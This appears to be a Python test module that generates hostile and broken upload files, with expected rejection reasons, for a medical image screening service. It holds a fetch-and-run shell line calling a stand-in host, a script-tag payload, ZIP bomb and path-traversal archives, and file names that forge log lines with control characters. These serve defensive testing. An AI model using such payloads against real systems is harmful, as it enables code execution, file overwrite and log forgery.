"""A corpus of hostile and broken files, built by code (no committed blobs), with the reason each must
get, and good files to send in the same batch.

`hostile_corpus()` lists `Item(name, data, reason)`: `reason` is the exact one-line reason the user
sees for that file (None for a file that must be screened). ZIP archives expand into several items;
`expected_members()` gives the names and reasons their members must end with. The per-file size
limit these reasons quote is `MAX_FILE_MB`: tests run intake with `TUMORSCREEN_MAX_FILE_MB` set to it.
"""
from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import lru_cache

import numpy as np
from PIL import Image
from pydicom.uid import JPEGLSLossless

from tests.builders import make_dicom, make_head_slice, make_jpeg, make_png, make_png_header, to_uint8

MAX_FILE_MB = 2
MB = 1024 * 1024
ZIP_MEMBER_LIMIT = 5000  # the default TUMORSCREEN_MAX_ZIP_MEMBERS
ZIP_RATIO_LIMIT = 100  # the default TUMORSCREEN_MAX_ZIP_RATIO
ENCAPSULATED_PDF = "1.2.840.10008.5.1.4.1.1.104.1"

UNSAFE_PATH = "unsafe path in ZIP (absolute or leading outside the archive)"
NESTED = "a ZIP archive inside the ZIP: nested archives are not accepted"
ENCRYPTED = "encrypted ZIP member: password-protected archives are not accepted"


@dataclass(frozen=True)
class Item:
    name: str
    data: bytes
    reason: str | None  # None: a good file that must be screened


def head_png(seed: int, size: int = 96) -> bytes:
    return make_png(make_head_slice(size, seed=seed))


def _truncated(data: bytes, keep: float = 0.6) -> bytes:
    return data[: int(len(data) * keep)]


def _animated_gif(frames: int = 3) -> bytes:
    images = [Image.fromarray(to_uint8(make_head_slice(64, seed=40 + i))) for i in range(frames)]
    buffer = io.BytesIO()
    images[0].save(buffer, format="GIF", save_all=True, append_images=images[1:], duration=100, loop=0)
    return buffer.getvalue()


def _tiff(pages: int = 1, seed: int = 50) -> bytes:
    images = [Image.fromarray(to_uint8(make_head_slice(96, seed=seed + i))) for i in range(pages)]
    buffer = io.BytesIO()
    images[0].save(buffer, format="TIFF", save_all=pages > 1, append_images=images[1:])
    return buffer.getvalue()


def _ct_stored(seed: int) -> np.ndarray:
    # HU = stored - 1024 with the builder's default rescale: brain tissue lands inside W80/L40.
    return (make_head_slice(96, seed=seed) * 80 + 1024).astype(np.int16)


def _zip(members: list[tuple[str, bytes]], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data,
                             compress_type=compression)
    return buffer.getvalue()


def _zipcrypto(data: bytes, password: bytes) -> bytes:
    """Traditional PKWARE encryption (what `zip -P` writes): 12-byte header, then the data."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc(value: int, byte: int) -> int:
        return ~zlib.crc32(bytes([byte]), ~value & 0xFFFFFFFF) & 0xFFFFFFFF

    def update(byte: int) -> None:
        keys[0] = crc(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc(keys[2], keys[1] >> 24)

    for byte in password:
        update(byte)
    header = bytes(11) + bytes([zlib.crc32(data) >> 24])
    out = bytearray()
    for byte in header + data:
        temp = (keys[2] | 2) & 0xFFFF
        out.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
        update(byte)
    return bytes(out)


def _encrypted_zip(name: str, data: bytes, password: bytes = b"secret") -> bytes:
    """A one-member archive encrypted with a password (stored, ZipCrypto), byte for byte as PKZIP
    lays it out; `zipfile` can read it back only with the password."""
    cipher = _zipcrypto(data, password)
    crc = zlib.crc32(data)
    encoded = name.encode()
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0x1, 0, 0, 0, crc, len(cipher), len(data),
                        len(encoded), 0) + encoded
    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0x1, 0, 0, 0, crc, len(cipher), len(data),
                          len(encoded), 0, 0, 0, 0, 0, 0) + encoded
    offset = len(local) + len(cipher)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(central), offset, 0)
    return local + cipher + central + end


def _many_members_zip(count: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        for index in range(count):
            archive.writestr(f"m{index}.png", b"")
    return buffer.getvalue()


def _ratio(archive: bytes, member: str) -> float:
    info = zipfile.ZipFile(io.BytesIO(archive)).getinfo(member)
    return info.file_size / max(info.compress_size, 1)


@lru_cache(maxsize=1)
def hostile_corpus() -> tuple[Item, ...]:
    """Every hostile file of the issue, and good files among them, in one batch's order."""
    rng = np.random.default_rng(8)
    good_png = head_png(1)
    good_jpeg = make_jpeg(make_head_slice(96, seed=2))
    bomb_member = bytes(int(1.5 * MB))  # 1.5 MB of zeros: under the size limit, ratio about 1000:1
    bomb_zip = _zip([("bomb.png", bomb_member), ("inside-bomb.png", head_png(20))])
    traversal_zip = _zip([("../../etc/evil.png", head_png(21)), ("/abs/evil.png", head_png(22)),
                          ("..\\windows\\evil.png", head_png(23)), ("ok/inside.png", head_png(24))])
    nested_zip = _zip([("inner.zip", _zip([("deep.png", head_png(25))])),
                       ("renamed.png", _zip([("deeper.png", head_png(26))])), ("fine.png", head_png(27))])
    control_zip = _zip([("line1\nFORGED: admin logged in\x1b[2J.png", head_png(28)),
                        ("x" * 3000 + ".png", head_png(29))])
    items = [
        Item("good-1.png", good_png, None),
        Item("empty.png", b"", "empty file"),
        Item("random.png", b"\x00\x9f" + rng.integers(0, 256, 4096, dtype=np.uint8).tobytes(),
             "not an image (unrecognised content)"),
        Item("page.jpg", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
             "not an image (an HTML document)"),
        Item("script.jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n", "not an image (a script)"),
        Item("truncated.png", _truncated(head_png(3, 128)),
             "truncated or corrupt PNG (the file ends before the image does)"),
        Item("truncated.jpg", _truncated(make_jpeg(make_head_slice(128, seed=4))),
             "truncated or corrupt JPEG (the file ends before the image does)"),
        Item("bomb.png", make_png_header(100_000, 100_000),
             "too many pixels (100000x100000 = 10,000,000,000; the limit is 25,000,000)"),
        Item("sixteen-bit.png", make_png(make_head_slice(96, seed=5), mode="I;16"), None),
        Item("cmyk.jpg", make_jpeg(make_head_slice(96, seed=6), cmyk=True), None),
        Item("progressive.jpg", make_jpeg(make_head_slice(96, seed=7), progressive=True), None),
        Item("animated.gif", _animated_gif(3), "animated GIF with 3 frames: upload one slice per file"),
        Item("single.tif", _tiff(1), None),
        Item("multipage.tif", _tiff(3, seed=60), "multi-page TIFF with 3 frames: upload one slice per file"),
        Item("no-pixels.dcm", make_dicom(pixel_data=False), "DICOM without pixel data"),
        Item("jpeg-ls.dcm", make_dicom(_ct_stored(8), transfer_syntax=JPEGLSLossless),
             "compressed DICOM (JPEG-LS Lossless Image Compression) cannot be decoded here"),
        Item("multiframe.dcm", make_dicom(_ct_stored(9), frames=3),
             "multi-frame DICOM with 3 frames: upload single slices"),
        Item("rescale.dcm", make_dicom(_ct_stored(10), slope=1e9),
             "DICOM with implausible rescale (slope 1e+09, intercept -1024)"),
        Item("report.dcm", make_dicom(_ct_stored(11), sop_class=ENCAPSULATED_PDF),
             f"not an image: DICOM Encapsulated PDF Storage ({ENCAPSULATED_PDF})"),
        Item("good-ct.dcm", make_dicom(_ct_stored(12)), None),
        Item("bomb.zip", bomb_zip, None),
        Item("traversal.zip", traversal_zip, None),
        Item("many.zip", _many_members_zip(100_000),
             f"ZIP archive has 100,000 files; the limit is {ZIP_MEMBER_LIMIT:,}"),
        Item("nested.zip", nested_zip, None),
        Item("locked.zip", _encrypted_zip("secret.png", head_png(30)), None),
        Item("names.zip", control_zip, None),
        Item("huge.png", head_png(31) + bytes(int(MAX_FILE_MB * MB)),
             f"file too large ({(len(head_png(31)) + MAX_FILE_MB * MB) / MB:,.1f} MB); the limit is "
             f"{MAX_FILE_MB} MB"),
        Item("control\x1b[31m\r\nFORGED LINE\x07.png", head_png(32), None),
        Item("long-" + "n" * 5000 + ".png", head_png(33), None),
        Item("bytes-\udcff\udcfe-name.jpg", good_jpeg, None),
    ]
    global _ZIP_MEMBERS
    _ZIP_MEMBERS = {
        "bomb.zip": [("bomb.zip/bomb.png", f"compression ratio {_ratio(bomb_zip, 'bomb.png'):,.0f}:1 exceeds "
                                          f"the limit of {ZIP_RATIO_LIMIT}:1 (a ZIP bomb?)"),
                     ("bomb.zip/inside-bomb.png", None)],
        "traversal.zip": [("traversal.zip/../../etc/evil.png", UNSAFE_PATH),
                          ("traversal.zip//abs/evil.png", UNSAFE_PATH),
                          ("traversal.zip/..\\windows\\evil.png", UNSAFE_PATH),
                          ("traversal.zip/ok/inside.png", None)],
        "nested.zip": [("nested.zip/inner.zip", NESTED), ("nested.zip/renamed.png", NESTED),
                       ("nested.zip/fine.png", None)],
        "locked.zip": [("locked.zip/secret.png", ENCRYPTED)],
        "names.zip": [("names.zip/line1\nFORGED: admin logged in\x1b[2J.png", None),
                      (None, None)],  # the long member: its shortened name is checked by shape
    }
    return tuple(items)


_ZIP_MEMBERS: dict[str, list[tuple[str | None, str | None]]] = {}


def expected_members(archive: str) -> list[tuple[str | None, str | None]]:
    """(stored file name, reason) of each member of the corpus archive `archive`."""
    hostile_corpus()
    return _ZIP_MEMBERS[archive]


def expected_outcomes() -> dict[str, str | None]:
    """Sanitised stored name → reason (None: screened) for every file and member with a fixed name."""
    from ml.errors import sanitise_name

    outcomes: dict[str, str | None] = {}
    for item in hostile_corpus():
        if item.name in _ZIP_MEMBERS:
            for member, reason in _ZIP_MEMBERS[item.name]:
                if member is not None:
                    outcomes[sanitise_name(member)] = reason
        else:
            outcomes[sanitise_name(item.name)] = item.reason
    return outcomes


def good_count() -> int:
    """How many files of the corpus (members included) must be screened."""
    return sum(1 for reason in expected_outcomes().values() if reason is None) + 1  # + names.zip's long one
